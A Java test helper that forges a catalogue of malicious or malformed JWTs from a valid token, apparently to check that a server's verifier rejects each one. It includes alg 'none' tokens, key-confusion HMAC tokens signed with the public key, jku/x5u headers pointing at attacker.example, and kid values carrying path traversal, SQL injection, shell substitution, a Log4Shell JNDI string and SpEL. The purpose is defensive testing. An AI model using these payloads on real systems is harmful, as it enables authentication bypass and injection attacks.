package io.playledger.server.identity;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.spec.MGF1ParameterSpec;
import java.security.spec.PSSParameterSpec;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * Tokens as attackers make them out of a valid one, by name. Those under "signed by us" show that
 * the signature alone is not enough; all others are signed with what an attacker has.
 */
final class CraftedTokens {

  private static final JsonMapper JSON = JsonMapper.builder().build();

  private final Map<String, String> tokens = new LinkedHashMap<>();
  private final RSAKey ours;
  private final RSAKey theirs;
  private final String[] valid;
  private final ObjectNode header;
  private final ObjectNode claims;

  CraftedTokens(String valid, RSAKey ours) throws JOSEException {
    this.ours = ours;
    this.theirs = new RSAKeyGenerator(2048).keyID(ours.getKeyID()).generate();
    this.valid = valid.split("\\.");
    this.header = (ObjectNode) JSON.readTree(decoded(this.valid[0]));
    this.claims = (ObjectNode) JSON.readTree(decoded(this.valid[1]));
  }

  /** All of them, by name. */
  Map<String, String> all() {
    unsigned();
    secretsThatAreKnown();
    otherAlgorithms();
    keyIds();
    keysBroughtAlong();
    wrongClaims();
    wrongShapes();
    otherSpellings();
    return tokens;
  }

  /** The valid one, made by hand: the ground that all the others stand on. */
  String valid() {
    return ours(header -> {}, claims -> {});
  }

  private void unsigned() {
    for (String algorithm : new String[] {"none", "None", "NONE", "nOnE", "", "null", "plain"}) {
      for (String signature : new String[] {"", valid[2], encoded("signature")}) {
        put(
            "unsigned, alg '" + algorithm + "', signature of " + signature.length(),
            content(header -> header.put("alg", algorithm), claims -> {}) + "." + signature);
      }
    }
    put("no alg", content(header -> header.remove("alg"), claims -> {}) + "." + valid[2]);
    put("alg null", content(header -> header.putNull("alg"), claims -> {}) + "." + valid[2]);
    put("alg is a number", content(h -> h.put("alg", 256), c -> {}) + "." + valid[2]);
    put("alg is a list", content(h -> h.putArray("alg").add("RS256"), c -> {}) + "." + valid[2]);
  }

  /** The public key, in all the forms in which a careless server might take it for a secret. */
  private void secretsThatAreKnown() {
    Map<String, byte[]> secrets = new LinkedHashMap<>();
    byte[] der = publicKey();
    String base64 = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
    String pem = "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----";
    secrets.put("DER", der);
    secrets.put("PEM", utf8(pem));
    secrets.put("PEM with a line end", utf8(pem + "\n"));
    secrets.put("base64", utf8(Base64.getEncoder().encodeToString(der)));
    secrets.put("JWK", utf8(ours.toPublicJWK().toJSONString()));
    secrets.put("JWKS", utf8("{\"keys\":[" + ours.toPublicJWK().toJSONString() + "]}"));
    secrets.put("modulus", ours.getModulus().decode());
    secrets.put("modulus in base64url", utf8(ours.getModulus().toString()));
    secrets.put("exponent", ours.getPublicExponent().decode());
    secrets.put("key id", utf8(ours.getKeyID()));
    secrets.put("zeros", new byte[32]);
    secrets.put("'secret'", utf8("secret"));
    secrets.forEach(
        (name, secret) -> {
          for (int bits : new int[] {256, 384, 512}) {
            put(
                "HS" + bits + " with the " + name,
                hmac(content(h -> h.put("alg", "HS" + bits), c -> {}), bits, secret));
          }
        });
  }

  private void otherAlgorithms() {
    for (int bits : new int[] {384, 512}) {
      put(
          "signed by us, RS" + bits,
          signed("SHA" + bits + "withRSA", ours, h -> h.put("alg", "RS" + bits), c -> {}));
    }
    for (int bits : new int[] {256, 384, 512}) {
      put("signed by us, PS" + bits, probabilistic(bits));
    }
    for (String algorithm :
        new String[] {
          "RS384",
          "PS256",
          "ES256",
          "ES512",
          "EdDSA",
          "HS256",
          "rs256",
          "RS256 ",
          "RS1",
          "RSA",
          "dir",
          "RSA-OAEP",
          "A128KW",
          "SHA256withRSA"
        }) {
      put(
          "signed by us as RS256, named " + algorithm,
          ours(header -> header.put("alg", algorithm), claims -> {}));
    }
    put("signed by us with SHA-1", signed("SHA1withRSA", ours, h -> {}, c -> {}));
    put("signature of zeros", content(h -> {}, c -> {}) + "." + encoded(new byte[256]));
    put("signature of one byte", content(h -> {}, c -> {}) + "." + encoded(new byte[1]));
    put("signature of another token", content(h -> {}, c -> c.put("jti", "x")) + "." + valid[2]);
  }

  private void keyIds() {
    for (String kid :
        new String[] {
          ours.getKeyID(),
          "",
          "0",
          "../../../../../../dev/null",
          "/dev/null",
          "/etc/passwd",
          "C:\\Windows\\win.ini",
          "file:///dev/null",
          "https://attacker.example/key.pem",
          "' OR '1'='1",
          "x' UNION SELECT 'AA' -- ",
          "'; DROP TABLE auth.signing_key; --",
          "| id",
          "$(id)",
          "${jndi:ldap://attacker.example/a}",
          "#{T(java.lang.Runtime)}",
          "%00",
          "\u0000",
          "*",
          ours.getKeyID().toUpperCase(java.util.Locale.ROOT) + " ",
          "k".repeat(1_000)
        }) {
      String name = kid.length() > 60 ? "long" : kid;
      put("kid " + name, theirs(header -> header.put("kid", kid), claims -> {}));
      put(
          "kid " + name + ", HS256 without a secret",
          hmac(content(h -> h.put("alg", "HS256").put("kid", kid), c -> {}), 256, new byte[1]));
    }
    put("no kid", theirs(header -> header.remove("kid"), claims -> {}));
    put("kid is a number", theirs(header -> header.put("kid", 1), claims -> {}));
    put("kid is an object", theirs(header -> header.putObject("kid").put("a", 1), claims -> {}));
    put("signed by us, unknown kid", ours(header -> header.put("kid", "unknown"), claims -> {}));
  }

  private void keysBroughtAlong() {
    String url = "https://attacker.example/jwks.json";
    var jwk = JSON.readTree(theirs.toPublicJWK().toJSONString());
    for (boolean named : new boolean[] {true, false}) {
      Consumer<ObjectNode> kid = header -> header.put("kid", named ? ours.getKeyID() : "theirs");
      String with = named ? ", our kid" : ", their kid";
      put("jwk" + with, theirs(kid.andThen(h -> h.set("jwk", jwk)), c -> {}));
      put("jku" + with, theirs(kid.andThen(h -> h.put("jku", url)), c -> {}));
      put("x5u" + with, theirs(kid.andThen(h -> h.put("x5u", url)), c -> {}));
      put(
          "x5c" + with,
          theirs(kid.andThen(h -> h.putArray("x5c").add(encoded(publicKey()))), c -> {}));
      put("x5t" + with, theirs(kid.andThen(h -> h.put("x5t", encoded("print"))), c -> {}));
    }
    put("signed by us, unknown crit", ours(h -> h.putArray("crit").add("x"), c -> {}));
    put(
        "signed by us, unencoded",
        ours(h -> h.put("b64", false).putArray("crit").add("b64"), c -> {}));
    put(
        "signed by us, compressed",
        ours(h -> h.put("zip", "DEF").putArray("crit").add("zip"), c -> {}));
  }

  private void wrongClaims() {
    long now = System.currentTimeMillis() / 1_000;
    for (String issuer : new String[] {"another", "", "Playledger", "playledger ", "playledger/"}) {
      claim("iss '" + issuer + "'", claims -> claims.put("iss", issuer));
      claim("aud '" + issuer + "'", claims -> claims.put("aud", issuer));
    }
    claim("no iss", claims -> claims.remove("iss"));
    claim("iss is a list", claims -> claims.putArray("iss").add("playledger"));
    claim("iss is null", claims -> claims.putNull("iss"));
    claim("no aud", claims -> claims.remove("aud"));
    claim("aud is empty", claims -> claims.putArray("aud"));
    claim("aud is a part", claims -> claims.put("aud", "playledger"));
    claim("aud in other letters", claims -> claims.put("aud", "Playledger-API"));
    claim("aud is a refresh", claims -> claims.put("aud", "playledger-refresh"));
    claim("aud is an object", claims -> claims.putObject("aud").put("playledger-api", true));
    claim("no sub", claims -> claims.remove("sub"));
    for (String subject :
        new String[] {
          "",
          "root",
          "0",
          "admin@example.org",
          "00000000-0000-0000-0000-000000000000",
          "*",
          "' OR 1=1 --",
          "01990000-0000-7000-8000-000000000000"
        }) {
      claim("sub '" + subject + "'", claims -> claims.put("sub", subject));
    }
    claim("sub is null", claims -> claims.putNull("sub"));
    claim("sub is a number", claims -> claims.put("sub", 1));
    claim("no exp", claims -> claims.remove("exp"));
    for (long exp : new long[] {now - 60, now - 86_400, 0, -1, Long.MIN_VALUE}) {
      claim("exp " + exp, claims -> claims.put("exp", exp));
    }
    claim("exp is text", claims -> claims.put("exp", "tomorrow"));
    claim("exp is null", claims -> claims.putNull("exp"));
    claim("exp is true", claims -> claims.put("exp", true));
    claim("exp is a list", claims -> claims.putArray("exp").add(now + 60));
    for (long nbf : new long[] {now + 60, now + 86_400}) {
      claim("nbf " + nbf, claims -> claims.put("nbf", nbf));
    }
    claim("nbf is text", claims -> claims.put("nbf", "yesterday"));
    put("signed by us, no claims", signedRaw(ours, decoded(valid[0]), "{}"));
  }

  private void claim(String name, Consumer<ObjectNode> change) {
    put("signed by us, " + name, ours(header -> {}, change));
  }

  private void wrongShapes() {
    String token = String.join(".", valid);
    for (int part = 1; part < 20; part++) {
      put("the first " + part + "/20", token.substring(0, token.length() * part / 20));
    }
    put("the last half", token.substring(token.length() / 2));
    put("without header", "." + valid[1] + "." + valid[2]);
    put("without claims", valid[0] + ".." + valid[2]);
    put("without signature", valid[0] + "." + valid[1] + ".");
    put("two parts", valid[0] + "." + valid[1]);
    put("four parts", token + "." + valid[2]);
    put("five parts", valid[0] + ".." + valid[1] + ".." + valid[2]);
    put("other order", valid[1] + "." + valid[0] + "." + valid[2]);
    put("twice", token + token);
    put("dots", "..");
    put("not base64", "a!.b!.c!");
    put("header is no JSON", encoded("alg") + "." + valid[1] + "." + valid[2]);
    put("claims are no JSON", signedRaw(ours, decoded(valid[0]), "claims"));
    put("claims are a list", signedRaw(ours, decoded(valid[0]), "[" + decoded(valid[1]) + "]"));
    put("nested", signedRaw(ours, decoded(valid[0]), token));
    put("nested, in quotes", signedRaw(ours, decoded(valid[0]), "\"" + token + "\""));
    put("alg twice", doubled(valid[0], "\"alg\":\"none\",") + "." + valid[1] + "." + valid[2]);
    put("alg twice, unsigned", doubled(valid[0], "\"alg\":\"none\",") + "." + valid[1] + ".");
    put("sub twice", valid[0] + "." + doubled(valid[1], "\"sub\":\"admin\",") + "." + valid[2]);
    put("exp twice", valid[0] + "." + doubled(valid[1], "\"exp\":99999999999,") + "." + valid[2]);
    put("huge claims", ours(h -> {}, c -> c.put("x", "y".repeat(6_000))));
    put("huge header", theirs(h -> h.put("x", "y".repeat(6_000)), c -> {}));
    put("very deep", signedRaw(ours, decoded(valid[0]), "[".repeat(2_000) + "]".repeat(2_000)));
  }

  private void otherSpellings() {
    String token = String.join(".", valid);
    put("padded", valid[0] + "." + valid[1] + "." + valid[2] + "==");
    put("upper case", token.toUpperCase(java.util.Locale.ROOT));
    put("lower case", token.toLowerCase(java.util.Locale.ROOT));
    put("dots as %2E", token.replace(".", "%2E"));
    put("a tilde behind", token + "~");
    put("a tilde inside", valid[0] + "." + valid[1] + ".~" + valid[2]);
    put("a plus for a minus", valid[0] + "." + valid[1] + "." + swapped(valid[2], '-', '+'));
    put("a slash for a line", valid[0] + "." + valid[1] + "." + swapped(valid[2], '_', '/'));
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    char last = token.charAt(token.length() - 1);
    for (int spare = 1; spare < 16; spare++) {
      put(
          "same bytes, spare bits " + spare,
          token.substring(0, token.length() - 1) + alphabet.charAt(alphabet.indexOf(last) | spare));
    }
  }

  /** Changes every one of them; where there is none, one is put in front. */
  private static String swapped(String part, char from, char to) {
    return part.indexOf(from) < 0 ? to + part : part.replace(from, to);
  }

  private void put(String name, String token) {
    if (tokens.put(name, token) != null) {
      throw new AssertionError("two crafted tokens are named " + name);
    }
  }

  private String content(Consumer<ObjectNode> changedHeader, Consumer<ObjectNode> changedClaims) {
    ObjectNode head = header.deepCopy();
    ObjectNode body = claims.deepCopy();
    changedHeader.accept(head);
    changedClaims.accept(body);
    return encoded(JSON.writeValueAsString(head)) + "." + encoded(JSON.writeValueAsString(body));
  }

  private String ours(Consumer<ObjectNode> changedHeader, Consumer<ObjectNode> changedClaims) {
    return signed("SHA256withRSA", ours, changedHeader, changedClaims);
  }

  private String theirs(Consumer<ObjectNode> changedHeader, Consumer<ObjectNode> changedClaims) {
    return signed("SHA256withRSA", theirs, changedHeader, changedClaims);
  }

  private String signed(
      String algorithm,
      RSAKey key,
      Consumer<ObjectNode> changedHeader,
      Consumer<ObjectNode> changedClaims) {
    String content = content(changedHeader, changedClaims);
    try {
      return content + "." + encoded(sign(Signature.getInstance(algorithm), key, content));
    } catch (GeneralSecurityException e) {
      throw new AssertionError(e);
    }
  }

  private static String signedRaw(RSAKey key, String header, String claims) {
    String content = encoded(header) + "." + encoded(claims);
    try {
      return content + "." + encoded(sign(Signature.getInstance("SHA256withRSA"), key, content));
    } catch (GeneralSecurityException e) {
      throw new AssertionError(e);
    }
  }

  private String probabilistic(int bits) {
    String content = content(header -> header.put("alg", "PS" + bits), claims -> {});
    try {
      Signature signature = Signature.getInstance("RSASSA-PSS");
      signature.setParameter(
          new PSSParameterSpec(
              "SHA-" + bits, "MGF1", new MGF1ParameterSpec("SHA-" + bits), bits / 8, 1));
      return content + "." + encoded(sign(signature, ours, content));
    } catch (GeneralSecurityException e) {
      throw new AssertionError(e);
    }
  }

  private static byte[] sign(Signature signature, RSAKey key, String content)
      throws GeneralSecurityException {
    signature.initSign(privateKey(key));
    signature.update(utf8(content));
    return signature.sign();
  }

  private static PrivateKey privateKey(RSAKey key) {
    try {
      return key.toPrivateKey();
    } catch (JOSEException e) {
      throw new AssertionError(e);
    }
  }

  private byte[] publicKey() {
    try {
      return ours.toPublicKey().getEncoded();
    } catch (JOSEException e) {
      throw new AssertionError(e);
    }
  }

  private static String hmac(String content, int bits, byte[] secret) {
    try {
      Mac mac = Mac.getInstance("HmacSHA" + bits);
      mac.init(new SecretKeySpec(secret, mac.getAlgorithm()));
      return content + "." + encoded(mac.doFinal(utf8(content)));
    } catch (GeneralSecurityException e) {
      throw new AssertionError(e);
    }
  }

  /** The object once more, with these members before its own. */
  private static String doubled(String part, String members) {
    return encoded("{" + members + decoded(part).substring(1));
  }

  private static String decoded(String part) {
    return new String(Base64.getUrlDecoder().decode(part), StandardCharsets.UTF_8);
  }

  private static String encoded(String text) {
    return encoded(utf8(text));
  }

  private static String encoded(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
